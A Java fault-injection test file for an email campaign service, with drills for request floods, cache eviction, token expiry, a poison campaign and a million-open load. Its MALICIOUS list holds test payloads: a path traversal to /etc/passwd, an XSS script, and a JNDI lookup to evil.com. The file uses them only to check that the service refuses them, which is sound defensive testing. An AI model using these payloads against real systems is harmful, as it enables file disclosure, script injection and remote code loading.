package io.mailblast.validation.drill;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.mailblast.validation.fault.Asker;
import io.mailblast.validation.fault.Cure;
import io.mailblast.validation.fault.Reached;
import io.mailblast.validation.fault.Trouble;
import io.mailblast.validation.fault.Watched;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.OptionalDouble;
import java.util.OptionalLong;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;

/// Trouble that comes with requests and campaigns.
final class TrafficFaults {

    private static final String TRANSACTIONS =
            "select xact_commit + xact_rollback from pg_stat_database where datname = 'mailblast'";

    /// The strategy's own (6.4), as a URL has them.
    private static final List<String> MALICIOUS = List.of(
            "/track/open/..%2f..%2f..%2fetc%2fpasswd",
            "/track/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/track/open/$%7Bjndi:ldap:%2F%2Fevil.com%7D");

    /// Whoever floods is answered late, so few are no flood.
    private static final int CLIENTS = 24;
    private static final int HERD = 1_000_000;
    private static final int PEOPLE = 256;

    /// Whoever still waits then is not answered.
    private static final int LONGEST_HERD_MIN = 5;
    private static final long BASELINE_MS = 3_000;

    private TrafficFaults() {}

    static List<Fault> all() {
        return List.of(
                Fault.anywhere(
                        "malformed-flood",
                        "malformed requests to tracking, as many as 24 clients can send",
                        TrafficFaults::flood),
                Fault.anywhere(
                        "caches-evicted",
                        "questions that nobody else asks push every kept answer out",
                        TrafficFaults::evict),
                Fault.anywhere("tokens-expire", "every access token expires, twice", TrafficFaults::expire),
                Fault.anywhere(
                        "poison-campaign", "a campaign of which some mails cannot be made", TrafficFaults::poison),
                Fault.anywhere("herd", "a million opens at once, fewer in a shorter drill", TrafficFaults::herd)
                        .withProvider());
    }

    /// Transactions of the database; empty where it is not ours to ask.
    private static OptionalLong transactions(Reached subject) {
        return subject instanceof Watched own ? OptionalLong.of(own.number(TRANSACTIONS)) : OptionalLong.empty();
    }

    /// The same a second, over some seconds.
    private static OptionalDouble transactions(Reached subject, long ms) {
        long begun = System.nanoTime();
        OptionalLong before = transactions(subject);
        Trouble.pause(ms);
        return perSecond(subject, before, begun);
    }

    private static OptionalDouble perSecond(Reached subject, OptionalLong before, long begunNs) {
        OptionalLong now = transactions(subject);
        return before.isEmpty() || now.isEmpty()
                ? OptionalDouble.empty()
                : OptionalDouble.of((now.getAsLong() - before.getAsLong()) / ((System.nanoTime() - begunNs) / 1e9));
    }

    private static Injection flood(Reached target) {
        OptionalDouble steady = transactions(target, BASELINE_MS);
        Map<Integer, AtomicLong> statuses = new ConcurrentHashMap<>();
        AtomicLong number = new AtomicLong();
        OptionalLong before = transactions(target);
        long begun = System.nanoTime();
        List<Asker> clients = Stream.generate(target::asker).limit(CLIENTS).toList();
        Cure flood = Trouble.untilCured(CLIENTS, place -> {
            int status = clients.get(place).status(MALICIOUS.get((int) (number.incrementAndGet() % MALICIOUS.size())));
            statuses.computeIfAbsent(status, _ -> new AtomicLong()).incrementAndGet();
        });
        return new Injection() {
            private OptionalDouble flooded = OptionalDouble.empty();

            @Override
            public void end() throws InterruptedException {
                flooded = perSecond(target, before, begun);
                flood.end();
                clients.forEach(Asker::close);
            }

            @Override
            public List<Check> checks() {
                long refused = count(400) + count(404) + count(429);
                // Those that were under way when the flood ended have no answer.
                long answered = statuses.entrySet().stream()
                        .filter(each -> each.getKey() > 0)
                        .mapToLong(each -> each.getValue().get())
                        .sum();
                return List.of(
                        new Check(
                                "Every one is refused",
                                refused > 0 && refused == answered && count(0) <= 2 * CLIENTS,
                                "answers by status: " + statuses),
                        new Check("Too many are told so", count(429) > 0, count(429) + " answers of 429"),
                        database("The database does not notice", steady, flooded, 1.5));
            }

            private long count(int status) {
                return statuses.getOrDefault(status, new AtomicLong()).get();
            }
        };
    }

    private static Check database(String name, OptionalDouble before, OptionalDouble after, double most) {
        if (before.isEmpty() || after.isEmpty()) {
            return new Check(name, true, "not looked at: the database of a target is not ours to ask");
        }
        double steady = before.getAsDouble();
        double hurt = after.getAsDouble();
        // Some transactions a second are there without anybody asking.
        double least = Math.max(steady, 20);
        return new Check(
                name,
                hurt <= least * most,
                String.format(
                        Locale.ROOT,
                        "%.0f transactions a second, %.0f before; at most %.1f times as many",
                        hurt,
                        steady,
                        most));
    }

    /// Twice as many other questions as answers are kept, then what everybody asks, from nothing.
    private static Injection evict(Reached target) {
        OptionalDouble steady = transactions(target, BASELINE_MS);
        for (int limit = 1; limit <= 200; limit++) {
            int _ = target.statusSignedIn("/analytics/events/recent?limit=" + limit);
        }
        OptionalDouble after = transactions(target, BASELINE_MS);
        return new Injection() {
            @Override
            public void end() {
                // It is over once it has begun.
            }

            @Override
            public List<Check> checks() {
                return List.of(database("The database has little more to do", steady, after, 2));
            }
        };
    }

    private static Injection expire(Reached target) {
        long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(25);
        return new Injection() {
            @Override
            public boolean isDone() {
                return System.nanoTime() > until;
            }

            @Override
            public void end() {
                // Those that are issued now last longer than the rest of the drill.
            }
        };
    }

    /// Of five of three hundred people the mail would be larger than a mail may be made.
    private static Injection poison(Reached target) {
        StringBuilder csv = new StringBuilder("email,first_name,bio\n");
        for (int i = 0; i < 300; i++) {
            csv.append("poison").append(i).append("@alerts.example,Ann,");
            csv.append(i % 60 == 7 ? "x".repeat(12_000) : "short").append('\n');
        }
        ObjectNode list = Reached.object().put("name", "Poison " + System.nanoTime());
        long id = target.api().post("/lists", list).at("/data/id").asLong();
        target.importFile("poison", csv.toString(), "?list_id=" + id);
        long campaign = target.draft(id, "<p>" + "{{bio}} ".repeat(400) + "</p>");
        JsonNode _ = target.api().post("/campaigns/" + campaign + "/send");
        return new Injection() {
            @Override
            public boolean isDone() {
                return target.state(campaign).equals("sent");
            }

            @Override
            public void end() {
                // It ends by itself.
            }

            @Override
            public List<Check> checks() {
                JsonNode states =
                        target.api().get("/campaigns/" + campaign + "/stats").at("/data/by_state");
                long sent = states.path("sent").asLong();
                long failed = states.path("failed").asLong();
                return List.of(new Check(
                        "Only what is poison fails",
                        sent == 295 && failed == 5,
                        sent + " of 300 sent, " + failed + " failed"));
            }
        };
    }

    private static Injection herd(Reached target) throws InterruptedException {
        String pixel = target.pixel();
        int opens = target.scaled(HERD);
        AtomicLong left = new AtomicLong(opens);
        AtomicLong good = new AtomicLong();
        long begun = System.nanoTime();
        List<Asker> people = Stream.generate(target::asker).limit(PEOPLE).toList();
        try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
            people.forEach(person -> threads.execute(() -> {
                while (left.getAndDecrement() > 0) {
                    if (person.status(pixel) == 200) {
                        good.incrementAndGet();
                    }
                }
            }));
            threads.shutdown();
            if (!threads.awaitTermination(LONGEST_HERD_MIN, TimeUnit.MINUTES)) {
                left.set(0);
                people.forEach(Asker::close);
            }
        } finally {
            people.forEach(Asker::close);
        }
        double seconds = (System.nanoTime() - begun) / 1e9;
        return new Injection() {
            @Override
            public void end() {
                // All have been answered.
            }

            @Override
            public List<Check> checks() {
                return List.of(new Check(
                        "Every open is answered",
                        good.get() == opens,
                        String.format(Locale.ROOT, "%,d of %,d, %,.0f a second", good.get(), opens, opens / seconds)));
            }
        };
    }
}
